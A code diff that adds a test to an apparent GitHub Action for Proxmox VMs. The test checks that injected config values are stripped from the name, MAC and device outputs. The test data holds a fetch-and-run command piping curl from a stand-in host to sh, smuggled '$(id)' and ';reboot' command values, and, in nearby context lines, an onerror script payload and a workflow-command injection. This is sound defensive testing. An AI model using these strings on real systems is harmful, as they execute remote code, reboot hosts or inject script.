@@ -191,6 +191,22 @@ describe('PVE text in the job summary and the log', () => {
     expect(annotations(run.main, 'warning')).toEqual([]);
   });
 
+  test('config text that PVE itself would never accept does not reach the name, mac or devices outputs', async () => {
+    // Written into the config file behind the API's back (PVE validates these on every API write).
+    seedVm(sim, 730, 'pve1', {
+      name: 'x$(curl evil|sh)',
+      net0: 'virtio=BC:24:11:00:07:30,bridge=vmbr0',
+      net1: 'virtio=$(id),bridge=vmbr0',
+      scsi0: 'local-lvm:vm-730-disk-0,size=4G',
+      scsi1: 'local-lvm:vm-730-disk-1;reboot,size=4G',
+    });
+    const out = ok(await step(sim, { vmid: '730', state: 'current' }, { post: false }));
+    expect(out.name).toBe('');
+    expect(JSON.parse(out.mac)).toEqual({ net0: 'BC:24:11:00:07:30' });
+    expect(JSON.parse(out.devices)).toEqual({ scsi0: 'local-lvm:vm-730-disk-0' });
+    expect(out.node).toBe('pve1');
+  });
+
   test('a task error with markdown, HTML and `\\r::error::x` is escaped in the failure summary and the log', async () => {
     const message = `boom <img src=x onerror=alert(1)> [x](http://evil) | \`tick\`\r::error::x`;
     sim.configure({ faults: { failTask: { type: 'qmcreate', message } } });
